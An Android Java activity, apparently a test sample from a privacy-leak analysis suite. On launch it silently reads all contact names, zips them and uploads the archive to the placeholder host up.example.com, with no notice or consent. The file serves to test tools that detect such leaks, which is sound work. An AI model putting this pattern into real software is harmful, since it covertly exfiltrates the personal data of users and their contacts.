package cn.privlens.suite.contacts_zipped;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final String names = names();
        new Thread(() -> {
            try {
                upload(zip("list.txt", names));
            } catch (IOException e) {
                return;
            }
        }).start();
    }

    private String names() {
        StringBuilder all = new StringBuilder("name\n");
        Cursor c = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (c != null && c.moveToNext()) {
            all.append(c.getString(c.getColumnIndex(ContactsContract.Contacts.DISPLAY_NAME))).append('\n');
        }
        if (c != null) {
            c.close();
        }
        return all.toString();
    }

    private static byte[] zip(String name, String text) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        ZipOutputStream zip = new ZipOutputStream(bytes);
        zip.putNextEntry(new ZipEntry(name));
        zip.write(text.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
        zip.close();
        return bytes.toByteArray();
    }

    private static void upload(byte[] file) throws IOException {
        String border = "----b7";
        HttpURLConnection c = (HttpURLConnection) new URL("https://up.example.com/file").openConnection();
        c.setDoOutput(true);
        c.setRequestProperty("Content-Type", "multipart/form-data; boundary=" + border);
        DataOutputStream out = new DataOutputStream(c.getOutputStream());
        out.writeBytes("--" + border + "\r\nContent-Disposition: form-data; name=\"f\"; filename=\"l.zip\"\r\n\r\n");
        out.write(file, 0, file.length);
        out.writeBytes("\r\n--" + border + "--\r\n");
        out.flush();
        out.close();
        c.getResponseCode();
    }
}
